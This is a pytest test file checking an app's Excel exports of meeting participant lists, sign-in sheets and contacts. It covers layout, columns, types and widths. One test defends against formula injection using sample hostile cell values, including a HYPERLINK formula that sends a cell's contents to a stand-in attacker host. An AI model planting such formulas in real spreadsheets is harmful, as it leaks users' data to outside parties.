"""Excel exports, read back with openpyxl: layout, values, types and the
formula-injection guard."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import pytest
from factories import make_meeting, make_participant, make_person
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from rtcdesk.db.engine import Database
from rtcdesk.errors import NotFoundError, ValidationError
from rtcdesk.excel.cells import display_width
from rtcdesk.services import exports
from rtcdesk.services.meetings import find_meeting
from rtcdesk.vocabulary import ParticipationStatus

HEADER_ROW = 6  # three title lines, "Participant list", a blank row, then the header
#: Every column of the names and roles, in the order these tests read them.
FULL_LIST = (
    "no,delegation,name,title,family_name,given_name,position,organisation,email,phone,"
    "role,attendance,status"
)


def m21(database: Database) -> int:
    with database.read() as s:
        meeting = find_meeting(s, "RTC Heads Meeting", 21)
        assert meeting is not None
        return meeting.id


def export_participants(database: Database, path: Path, **options: object) -> Worksheet:
    with database.read() as s:
        sheet = exports.participant_list_sheet(s, m21(database), **options)  # type: ignore[arg-type]
        exports.export(path, sheet)
    return load_workbook(path).active


def header_row_of(ws: Worksheet) -> int:
    """The header is the first row after the blank row under the title block."""
    for row in range(1, 20):
        if ws.cell(row, 1).value is None and ws.cell(row + 1, 1).value is not None:
            return row + 1
    raise AssertionError("no header row")


def table(ws: Worksheet) -> list[tuple[object, ...]]:
    return list(ws.iter_rows(min_row=header_row_of(ws), values_only=True))


def test_participant_list_layout_for_printing(demo: Database, tmp_path: Path) -> None:
    ws = export_participants(demo, tmp_path / "list.xlsx")
    assert header_row_of(ws) == HEADER_ROW
    assert [ws.cell(row, 1).value for row in range(1, 5)] == [
        "21st RTC Heads Meeting",
        "14-16 Nov 2023",
        "RTC Japan (Customs Training Institute), Kashiwa, Japan",
        "Participant list",
    ]
    assert ws.cell(1, 1).font.bold
    header, *rows = table(ws)
    # What a host needs, readable on A4 landscape (the rest can be chosen).
    assert header == (
        "No.", "Delegation", "Name", "Position", "E-mail", "Attendance", "Role", "Status",
    )  # fmt: skip
    assert len(rows) == 22
    assert rows[0][1:4] == ("WCO", "Dr. Taeil KANG", "Director of Capacity Building")
    assert ws.freeze_panes == f"A{HEADER_ROW + 1}"
    assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    assert ws.auto_filter.ref == f"A{HEADER_ROW}:H{HEADER_ROW + 22}"
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == int(ws.PAPERSIZE_A4)
    assert not ws.print_options.gridLines
    fonts = {cell.font.name for row in ws.iter_rows() for cell in row if cell.value is not None}
    assert fonts == {"Arial"}
    # A long position wraps instead of widening the page.
    position = [r[3] for r in rows]
    longest = max(position, key=len)
    assert len(longest) > 35
    assert ws.column_dimensions["D"].width <= 37
    cell = next(c for c in ws["D"] if c.value == longest)
    assert cell.alignment.wrap_text
    assert ws.row_dimensions[cell.row].height >= 2 * 12.75
    assert ws.page_setup.fitToWidth == 1
    assert ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert "&P" in ws.oddFooter.center.text
    assert "&N" in ws.oddFooter.center.text


def test_participants_are_grouped_by_delegation_head_first(demo: Database, tmp_path: Path) -> None:
    _header, *rows = table(export_participants(demo, tmp_path / "list.xlsx", columns=FULL_LIST))
    numbers = [r[0] for r in rows]
    assert numbers == list(range(1, 23))
    assert all(isinstance(n, int) for n in numbers)
    delegations = list(dict.fromkeys(r[1] for r in rows))
    # Short names, as hosts read them.
    assert delegations == [
        "WCO",
        "APVC",
        "ROCB A/P",
        "RILO A/P",
        "RTC China",
        "RTC Hong Kong China",
        "RTC India",
        "RTC Indonesia",
        "RTC Japan",
        "RTC Korea",
        "RTC Malaysia",
        "RTC Thailand",
        "Japan Customs",
    ]
    first_of_each = {}
    for row in rows:
        first_of_each.setdefault(row[1], row)
    assert all(r[10] == "Head of delegation" for r in first_of_each.values())
    outram = next(r for r in rows if r[4] == "Outram")
    assert outram[2] == "Mr. Michael OUTRAM APM"
    assert outram[11] == "Virtual"
    chen = next(r for r in rows if r[4] == "陳")
    assert (chen[2], chen[5]) == ("Mr. 陳 家明", "家明")


def test_typed_case_is_kept_in_the_name_columns(demo: Database, tmp_path: Path) -> None:
    _header, *rows = table(export_participants(demo, tmp_path / "list.xlsx", columns=FULL_LIST))
    aoyama = next(r for r in rows if r[4] == "Aoyama")
    assert aoyama[2] == "Mr. AOYAMA Shigetoshi"  # display form, capitals built on export
    assert (aoyama[3], aoyama[5]) == ("Mr.", "Shigetoshi")


def test_columns_chosen_and_ordered(demo: Database, tmp_path: Path) -> None:
    ws = export_participants(demo, tmp_path / "list.xlsx", columns=["email", "name", "gender"])
    header, first, *_ = table(ws)
    assert header == ("E-mail", "Name", "Gender")
    assert first == (None, "Dr. Taeil KANG", "Male")  # no e-mail on record: an empty cell


def test_unknown_columns_are_refused_before_writing(demo: Database, tmp_path: Path) -> None:
    target = tmp_path / "list.xlsx"
    with pytest.raises(ValidationError) as refused:
        export_participants(demo, target, columns=["name", "nickname"])
    assert "'nickname' is not a column" in str(refused.value)
    assert not target.exists()


def test_only_the_chosen_statuses(demo: Database, tmp_path: Path) -> None:
    with demo.write() as s:
        meeting = find_meeting(s, "RTC Heads Meeting", 21)
        assert meeting is not None
        guest = make_person(s, "Guest", "Invited")
        make_participant(s, meeting.id, guest.id, status=ParticipationStatus.INVITED)
    everyone = table(export_participants(demo, tmp_path / "all.xlsx", columns=FULL_LIST))
    attended = table(
        export_participants(
            demo,
            tmp_path / "attended.xlsx",
            columns=FULL_LIST,
            statuses=[ParticipationStatus.ATTENDED],
        )
    )
    assert len(everyone) == 24
    assert len(attended) == 23
    assert all(r[12] == "Attended" for r in attended[1:])


def test_text_that_looks_like_a_formula_stays_text(database: Database, tmp_path: Path) -> None:
    hostile = {
        "given_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "position": "=1+1",
        "phone": "+81 3 1234",
        "email": "",
        "title": "@SUM(A1:A9)",
    }
    with database.write() as s:
        meeting = make_meeting(s, series="RTC Heads Meeting", ordinal=21)
        person = make_person(s, "-Minus", **hostile)
        make_participant(s, meeting.id, person.id)
    ws = export_participants(database, tmp_path / "list.xlsx", columns=FULL_LIST)
    header = header_row_of(ws)
    cells = {ws.cell(header, c).value: ws.cell(header + 1, c) for c in range(1, 14)}
    for header, typed in [
        ("Given name", hostile["given_name"]),
        ("Position", "=1+1"),
        ("Phone", "+81 3 1234"),
        ("Title", "@SUM(A1:A9)"),
        ("Family name", "-Minus"),
    ]:
        assert cells[header].value == typed
        assert cells[header].data_type == "s", header


def test_widths_fit_the_content_and_count_cjk_double(demo: Database, tmp_path: Path) -> None:
    ws = export_participants(demo, tmp_path / "list.xlsx", columns=["no", "given_name", "name"])
    assert display_width("家明") == 4
    assert ws.column_dimensions["A"].width < ws.column_dimensions["C"].width
    longest_name = max(display_width(r[2]) for r in table(ws)[1:])
    assert ws.column_dimensions["C"].width >= longest_name


def test_an_unknown_meeting_writes_nothing(database: Database, tmp_path: Path) -> None:
    target = tmp_path / "list.xlsx"
    with database.read() as s, pytest.raises(NotFoundError):
        exports.export(target, exports.participant_list_sheet(s, 4242))
    assert not target.exists()


def test_sign_in_sheet(demo: Database, tmp_path: Path) -> None:
    with demo.read() as s:
        exports.export(tmp_path / "sign.xlsx", exports.sign_in_sheet(s, m21(demo)))
    ws = load_workbook(tmp_path / "sign.xlsx").active
    header, first, *rest = table(ws)
    # One dated signature column per day of the meeting.
    assert header == (
        "No.", "Name", "Delegation", "Tue 14 Nov 2023", "Wed 15 Nov 2023", "Thu 16 Nov 2023",
    )  # fmt: skip
    assert first == (1, "Dr. Taeil KANG", "WCO", None, None, None)
    names = [r[1] for r in rest]
    # Mr. Outram joins virtually: nothing to sign. Five blank rows for walk-ins.
    assert "Mr. Michael OUTRAM APM" not in names
    assert len(rest) == 20 + exports.WALK_IN_ROWS
    assert [r[0] for r in rest[-exports.WALK_IN_ROWS :]] == list(range(22, 27))
    assert all(r[1] is None for r in rest[-exports.WALK_IN_ROWS :])
    assert ws.column_dimensions["D"].width >= 16
    assert ws.row_dimensions[HEADER_ROW + 1].height == 30
    assert ws.page_setup.orientation == "portrait"


def test_a_sign_in_sheet_may_list_virtual_participants(demo: Database, tmp_path: Path) -> None:
    with demo.read() as s:
        sheet = exports.sign_in_sheet(s, m21(demo), include_virtual=True)
        exports.export(tmp_path / "sign.xlsx", sheet)
    _header, *rows = table(load_workbook(tmp_path / "sign.xlsx").active)
    assert "Mr. Michael OUTRAM APM" in [r[1] for r in rows]
    assert len(rows) == 22 + exports.WALK_IN_ROWS


def test_contacts_filtered_like_the_people_workspace(demo: Database, tmp_path: Path) -> None:
    with demo.read() as s:
        exports.export(tmp_path / "c.xlsx", exports.contacts_sheet(s, "rtc japan"))
    ws = load_workbook(tmp_path / "c.xlsx").active
    rows = table(ws)
    assert rows[0][0] == "Name"
    assert [r[0] for r in rows[1:]] == ["Ms. SATO Yuki", "Mr. TANAKA Hiroshi"]


def test_meetings_and_action_items_have_real_dates(demo: Database, tmp_path: Path) -> None:
    with demo.read() as s:
        exports.export(
            tmp_path / "m.xlsx", exports.meetings_sheet(s), exports.action_items_sheet(s)
        )
    workbook = load_workbook(tmp_path / "m.xlsx")
    meetings = table(workbook["Meetings"])
    m21_row = next(r for r in meetings if r[0] == "21st RTC Heads Meeting")
    assert m21_row[2] == datetime(2023, 11, 14)
    assert m21_row[10] == 22
    assert workbook["Meetings"].cell(4, 3).number_format == "d mmm yyyy"
    actions = table(workbook["Action items"])
    assert actions[0][:2] == ("Meeting", "Action")
    dues = [r[4] for r in actions[1:]]
    assert datetime(2024, 3, 31) in dues
    assert all(isinstance(d, datetime) for d in dues if d is not None)


def test_the_organisation_beside_the_delegation_only_where_it_differs(
    demo: Database, tmp_path: Path
) -> None:
    beside = table(
        export_participants(demo, tmp_path / "a.xlsx", columns="name,delegation,organisation")
    )
    alone = table(export_participants(demo, tmp_path / "b.xlsx", columns="name,organisation"))
    kang = next(r for r in beside if r[0] == "Dr. Taeil KANG")
    assert kang[1:] == ("WCO", None)  # he is of the WCO Secretariat, his delegation
    assert dict(alone[1:])["Dr. Taeil KANG"] == "WCO Secretariat"
